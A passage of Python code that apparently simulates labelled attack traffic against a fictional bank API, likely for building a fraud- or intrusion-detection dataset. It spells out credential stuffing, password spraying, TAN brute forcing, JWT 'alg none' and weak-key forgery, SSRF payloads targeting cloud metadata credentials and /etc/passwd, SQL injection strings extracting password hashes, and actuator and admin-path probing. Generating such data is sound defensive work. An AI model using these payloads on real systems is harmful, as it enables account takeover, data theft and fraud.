        cl = cli('2a01:4f8:c17:b8f::2', WEB[2], None, 'K06'); ids = sorted(app.att)
        for i in range(75): S.call(cl, 'GET', f'{AV}/attachments/{r.choice(ids) if r.random() < .7 else r.randint(ids[0], ids[-1])}'); yield r.uniform(60, 240)
    S.spawn(T(13, 1), k06())
    def k07(u):
        cl = own(u, 'K07'); yield 40; w.api(cl, 'PATCH', AV + '/customers/me', js=dict(language='de', kycLevel='FULL', segment='PRIVATE', dailyLimit=50000)); yield 90; cl.ep = None
        yield from w.pay(cl, u, u['accs'][0], mule, 'K Handel', 14900, ep='K07')
    S.spawn(T(15, 11), k07(next(M)))
    def stuff():
        ips = [w.full(w.addr(False)) if r.random() < .7 else r.choice(HOSTED) % r.randint(1, 254) for _ in range(170)]; hits = r.sample(w.passive, 3)
        jobs = [(r.uniform(0, 30 * HOUR), ip, h) for ip in ips for h in range(r.choice([2, 2, 3]))]
        for n, (t, ip, h) in enumerate(sorted(jobs)):
            yield max(.5, T(11, 18) + t - S.now); c = r.choice(w.active + w.passive) if r.random() < .12 else None
            if n in (90, 210, 300): c = hits[n // 105]
            cl = cli(ip, WEB[r.randint(0, 2)] if r.random() < .6 else 'AureliaBank/5.8.1 (Android 13; M2101K6G) okhttp/4.12.0', c and c['cid'], 'K09')
            mail = c['email'] if c else f'{r.choice(FIRST)}{r.choice([".", "_", ""])}{r.choice(LAST)}{r.randint(1, 99)}@{r.choice(["mail", "web", "post"])}.example'
            x = S.call(cl, 'POST', '/auth/token', js=dict(username=mail, password=c['pw'] if n in (90, 210, 300) else f'{r.choice(WORDS)}{r.randint(1, 2020)}'), ident=c['cid'] if c else mail)
            if w.take(cl, x): yield 4; v = w.api(cl, 'GET', AV + '/accounts').body['_embedded']['accounts']; w.api(cl, 'GET', f'{AV}/accounts/{v[0]["iban"]}/transactions?page=0&size=20')
    S.spawn(T(11, 18), stuff())
    def k10():
        cls = [cli(w.full(w.addr(i == 2)), WEB[i], None, 'K10') for i in range(4)]; hit = w.passive[7]; hit['pw'] = 'Sommer2026!'
        for c in r.sample(w.passive[8:], 60) + r.sample(w.active[110:], 20) + [hit] + r.sample(w.passive[8:], 14):
            x = S.call(r.choice(cls), 'POST', '/auth/token', js=dict(username=c['cid'], password='Sommer2026!'), ident=c['cid']); yield r.uniform(360, 1200)
    S.spawn(T(17, 5), k10())
    def k11():
        cl = cli('91.92.240.77', WEB[3], None, 'K11')
        for _ in range(260):
            m = r.choice(w.active + w.passive)['email'] if r.random() < .12 else f'{r.choice(GIVEN)}.{r.choice(FAMILY)}{r.randint(1, 999)}@{r.choice(["mail", "web", "post"])}.example'.lower()
            S.call(cl, 'GET', f'/public/onboarding/email-check?email={quote(m)}'); yield r.uniform(3, 11)
    S.spawn(T(8, 3), k11())
    def k12(u):
        cl = cli('185.107.56.41', WEB[0], u['cid'], 'K12'); w.login(cl, u); w.api(cl, 'GET', AV + '/accounts'); yield 30
        p = w.api(cl, 'POST', AV + '/payments', js=dict(debtorIban=u['accs'][0], creditorIban=mule, creditorName='T. Weiss', amount=2950, currency='EUR', remittance='Auto')); n = p.body['id']
        for _ in range(63):
            c = w.api(cl, 'POST', f'{AV}/payments/{n}/tan-requests', js={}).body['challengeId']
            for _ in range(3): yield r.uniform(4, 25); w.api(cl, 'POST', f'{AV}/payments/{n}/authorisations', js=dict(challengeId=c, tan=f'{r.randint(0, 999999):06}'))
    S.spawn(T(14, 2), k12(next(M)))
    def k13():
        mules, nxt = [], [4711000400]
        def scraper(u, cl):
            def days_():
                for d in range(12, 16):
                    yield max(5, T(d, r.uniform(8, 21)) - S.now); w.login(cl, u); w.api(cl, 'GET', '/api/v2/home', dc=None)
                    for _ in range(r.randint(8, 13)): yield r.lognormvariate(3, .8); nxt[0] += r.randint(1, 2); w.api(cl, 'POST', AV + '/payee-verifications', js=dict(iban=iban_of(nxt[0]), name=r.choice(FAMILY)))
            S.spawn(S.now + 60, days_())
        for i in range(30): yield r.expovariate(1 / 7500); S.spawn(S.now, w.signup(cli(w.full(w.addr(i % 5 == 0)), '', None, 'K13', True), code=False, k=scraper))
    S.spawn(T(9, 10), k13())
    def k14(e):
        cl = cli(e['desk'], e['cl'].ua, e['id'], 'K14'); cl.h.update({'Origin': 'https://desk.aureliabank.example'}); w.login(cl, e)
        for p in range((len(app.cust) + 99) // 100): w.api(cl, 'GET', f'/staff/customers?page={p}&size=100&sort=segment,asc'); yield r.uniform(8, 40)
        for c in r.sample([c for c in app.cust.values() if c['seg'] == 'PRIVATE'], 60): w.api(cl, 'GET', f'/staff/customers/{c["cid"]}/accounts'); yield r.uniform(5, 30)
    S.spawn(T(17, 19.2), k14(w.staff[2]))
    def k15(u):
        if not u['phone'].rt: w.login(u['phone'], u)
        cl = cli('146.70.99.12', 'okhttp/4.9.3', u['cid'], 'K15'); cl.rt = u['phone'].rt
        for _ in range(16):
            w.refresh(cl); v = w.api(cl, 'GET', AV + '/accounts').body['_embedded']['accounts']; yield r.uniform(2, 20)
            w.api(cl, 'GET', f'{AV}/accounts/{r.choice(v)["iban"]}/transactions?page={r.randint(0, 2)}&size=20&sort=bookingDate,desc')
            if r.random() < .3: w.api(cl, 'GET', AV + r.choice(['/beneficiaries', '/customers/me', '/payments?page=0&size=10']))
            yield r.uniform(1, 5) * HOUR
    S.spawn(T(15, 9), k15(max(w.active[100:160], key=lambda u: (not u['away'], u['webby'] < .2, u['rate']))))
    def k16():
        cl = cli('103.251.167.20', 'python-httpx/0.27.0', 'tpp-finflow', 'K16'); w.cc(cl, 'tpp-finflow')
        for k in list(w.mycons['tpp-finflow'])[:22]:
            a = S.call(cl, 'GET', '/open-banking/v1/accounts', h={'Consent-ID': k})
            for x in a.body.get('accounts', []): yield r.uniform(20, 120); S.call(cl, 'GET', f'/open-banking/v1/accounts/{x["iban"]}/transactions?bookingStatus=both&dateFrom=2024-01-01', h={'Consent-ID': k})
            w.cc(cl, 'tpp-finflow')
    S.spawn(T(17, 14), k16())
    def k17(u):
        cl = own(u, 'K17', 'python-requests/2.31.0'); good = cl.h['Authorization'][7:].split('.'); cl.rt, v = None, r.sample(w.active, 8)
        C = lambda c, **x: dict(iss=f'https://{HOST}', sub=c['cid'], aud='aurelia-api', iat=int(S.now), exp=int(S.now) + 90000, roles=['CUSTOMER'], **x)
        H = lambda h, c, sig='', k=None: (lambda p: p + '.' + (sig if k is None else b64(hmac.new(k.encode(), p.encode(), hashlib.sha256).digest())))(b64(json.dumps(h).encode()) + '.' + b64(json.dumps(C(c)).encode()))
        tries = [H(dict(alg=a, typ='JWT'), v[0]) for a in ('none', 'None', 'NONE', 'nOnE')] + [good[0] + '.' + b64(json.dumps(C(c)).encode()) + '.' + good[2] for c in v[:3]] + [H(dict(alg='HS256', kid=k, typ='JWT'), v[0], k=x) for k in ('aur-2026-06', '../../dev/null', 'aur-2026-04', 'test', 'dev', 'local', 'local-dev') for x in ('', 'secret', 'changeme')]
        for t in tries:
            yield r.uniform(6, 40)
            if S.call(cl, 'GET', AV + '/accounts', h={'Authorization': 'Bearer ' + t}).st == 200: break
        for c in v[1:]:
            yield r.uniform(20, 90); t = {'Authorization': 'Bearer ' + H(dict(alg='HS256', kid='local-dev', typ='JWT'), c, k='changeme')}; a = S.call(cl, 'GET', AV + '/accounts', h=t).body['_embedded']['accounts'][0]['iban']
            S.call(cl, 'GET', f'{AV}/accounts/{a}/transactions?page=0&size=50', h=t)
    S.spawn(T(13, 23), k17(next(M)))
    def k18(u):
        cl = own(u, 'K18')
        for x in ('http://localhost:8081/actuator/env', 'http://127.0.0.1:6379/', 'http://10.80.4.21:9200/_cat/indices', 'http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/api', 'file:///etc/passwd', 'http://2852039166/latest/meta-data/', 'http://[::1]:8081/actuator/heapdump', 'gopher://10.20.3.14:5432/_x', 'http://vault.internal:8200/v1/sys/health'):
            yield r.uniform(30, 140); w.api(cl, 'PUT', AV + '/notifications/webhook', js=dict(url=x, events=['BOOKING'])); yield 3; w.api(cl, 'POST', AV + '/notifications/webhook/test', js={})
    S.spawn(T(10, 22), k18(w.active[92]))
    def k19(u):
        cl = own(u, 'K19')
        for q in ("O'", "Miete'--", "x' AND 1=1", "' ORDER BY 5--", "' UNION SELECT 1--", "' UNION SELECT null,null,null--", "' UNION SELECT null,null,null,null--", "x' OR 'a'='a'--", "' UNION SELECT id,date,amount,name,iban FROM account--", "' UNION SELECT id,date,amount,name,iban FROM account WHERE id>900--", "' UNION SELECT id,login,1,pw_hash,iban FROM customer--"):
            yield r.uniform(25, 120); w.api(cl, 'GET', f'{AV}/accounts/{u["accs"][0]}/transactions?search={quote(q)}&page=0&size=50')
    S.spawn(T(16, 14), k19(next(M)))
    def k20(u, ip):
        cl = cli(ip, 'Go-http-client/2.0', u['cid'], 'K20'); w.login(cl, u)
        for _ in range(26): w.api(cl, 'GET', f'{AV}/loans/{u["loans"][0]}/schedule?months={r.choice([90000, 120000, 99999])}' if r.random() < .5 else f'{AV}/accounts/{u["accs"][0]}/transactions?page=0&size=100000'); yield r.uniform(5, 25)
    for k, u in enumerate([u for u in w.active[110:] if u['loans']][:2]): S.spawn(T(18, 4.1) + k * 90, k20(u, ('198.98.51.7', '2a0b:f4c2::11')[k]))
    def k21(u):
        for d in (16, 17):
            cl = cli('37.19.200.81', u['web'].ua, u['cid'], 'K21'); cl.h.update({k: v for k, v in u['web'].h.items() if k != 'Authorization'}); yield max(5, T(d, 13) - S.now); w.login(cl, u); w.api(cl, 'GET', AV + '/accounts')
            for _ in range(4 + d % 2):
                yield r.uniform(200, 2000)
                p = w.api(cl, 'POST', AV + '/payments', js=dict(debtorIban=u['accs'][0], creditorIban=mule, creditorName=r.choice(FAMILY), amount=r.choice([180, 240.5, 395]), currency='EUR', remittance='Rechnung'), h={'Idempotency-Key': uid(r)})
                yield r.uniform(6, 20); w.api(cl, 'POST', f'{AV}/payments/{p.body["id"]}/execution', js={}); yield 3; w.api(cl, 'GET', f'{AV}/payments/{p.body["id"]}')
    S.spawn(T(16, 12), k21(next(M)))
    def k22(u):
        for d in (17, 18, 19):
            yield max(5, T(d, r.uniform(17, 20)) - S.now); yield from w.session(u, True, 2)
            if 'Authorization' not in u['web'].h: yield from w.enter(u['web'], u, True)
            for _ in range(3 + d % 2):
                yield r.uniform(30, 300); o = r.choice(w.active)
                p = w.api(u['web'], 'POST', AV + '/payments', js=dict(debtorIban=u['accs'][0], creditorIban=o['accs'][0], creditorName=o['family'], amount=-r.choice([45, 120, 260.4]), currency='EUR', remittance='Danke!'), h={'Idempotency-Key': uid(r)}, ep='K22')
                yield r.uniform(4, 20); w.api(u['web'], 'POST', f'{AV}/payments/{p.body["id"]}/execution', js={}, ep='K22')
    S.spawn(T(17, 9), k22(next(M)))
    def k23():
        cl = cli('80.94.95.112', 'curl/8.5.0', None, 'K23')
        for p in ('health', 'env', 'loggers', 'env', 'heapdump', 'prometheus', 'env'): S.call(cl, 'GET', '/actuator/' + p); yield r.uniform(60, 5000)
    S.spawn(T(15, 3), k23())
    def k24():
        cl = cli('95.214.27.9', 'Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F)', None, 'K24'); cl.h['X-API-Key'] = app.zkey
        for c in r.sample(w.active + w.passive, 40) + [dict(cid=str(r.randint(20000000, 69999999))) for _ in range(5)]: S.call(cl, 'GET', f'/mobile/v0/customers/{c["cid"]}/overview'); yield r.uniform(40, 400)
    S.spawn(T(14, 15), k24())
    def k25(ip, ua):
        for _ in range(r.randint(5, 7)): cl = cli(ip, ua, None, 'K25'); S.call(cl, 'GET', f'{AV}/beta/insights/{r.choice(w.active)["cid"]}'); yield r.uniform(900, 26000)
    for i in range(3): S.spawn(T(12, 9) + i * 8000, k25(w.full(w.addr(i == 1)), WEB[i]))
    def k26(u):
        cls = [cli(w.full(w.addr(False)), '', u['cid'], 'K26', True) for _ in range(3)]
        ps = [f'{AV}/{a}' for a in ('users', 'admin', 'debug', 'export', 'customers', 'customers/all', 'accounts/export', 'payments/all', 'payments/export', 'config', 'swagger', 'tan', 'sms', 'tokens', 'sessions', 'limits', 'reports', 'batch', 'kyc', 'documents', 'internal', 'graphql', 'health', 'devices', 'cards/pin', 'loans/all', 'rates', 'fees', 'beta', 'test')] + [f'/api/v{k}/{a}' for k in (0, 2, 3) for a in ('accounts', 'users', 'admin', 'payments', 'customers', 'cards', 'loans', 'export', 'statements', 'login')] + [f'/{a}/{b}' for a in ('internal', 'staff', 'admin', 'management', 'open-banking/v2', 'mobile/v1', 'backoffice', 'ops') for b in ('users', 'config', 'export', 'jobs', 'debug', 'reports', 'keys', 'dump', 'metrics', 'status')] + ['/v3/api-docs', '/swagger-ui/index.html', '/actuator/mappings', '/actuator/beans', '/h2-console', '/jolokia/list']
        r.shuffle(ps)
        for i, p in enumerate(ps):
            cl = cls[i % 3]
            if not cl.rt: w.login(cl, u)
            w.api(cl, 'GET', p)
            if r.random() < .15: w.api(cl, 'GET', AV + '/accounts')
            yield r.uniform(500, 2500)
    S.spawn(T(9, 7), k26(next(M)))
    def k27():
        ips = [w.full(w.addr(False)) for _ in range(7)]
        def out(u, cl):
            p = w.api(cl, 'POST', AV + '/payments', js=dict(debtorIban=u['accs'][0], creditorIban=mule, creditorName='S', amount=25, currency='EUR', remittance=''))
            c = w.api(cl, 'POST', f'{AV}/payments/{p.body["id"]}/tan-requests', js={}).body['challengeId']; w.api(cl, 'POST', f'{AV}/payments/{p.body["id"]}/authorisations', js=dict(challengeId=c, tan=app.ch[c]['tan']))
            w.api(cl, 'POST', f'{AV}/payments/{p.body["id"]}/execution', js={})
        for i in range(26): S.spawn(S.now + 1, w.signup(cli(ips[i % 7], '', None, 'K27', True), k=out, wait=2.5)); yield r.uniform(200, 900)
    S.spawn(T(18, 13), k27())
    def k28():
        for d in (9, 10, 11, 14, 15, 16):
            yield max(5, T(d, 9) - S.now)
            for _ in range(r.randint(5, 8)):
                yield r.uniform(600, 5000); k = r.choice(w.mycons['tpp-payhelper']); ib = r.choice([p['debtorIban'] for p in app.obp.values()])
                if ib in app.consent[k]['ibans']: continue
                w.cc(w.ph, 'tpp-payhelper'); S.call(w.ph, 'GET', f'/open-banking/v1/accounts/{ib}/transactions?bookingStatus=booked', h={'Consent-ID': k}, ep='K28')
    S.spawn(T(9, 8), k28()); real = S.call
    def call(cl, m, url, **k):
        rs = real(cl, m, url, **k)
        if m == 'GET' and isinstance(rs.body, dict) and 'creditorParty' in rs.body and not S.tx[-1]['ep']: S.tx[-1]['ep'] = 'K08'
        return rs
    S.call = call
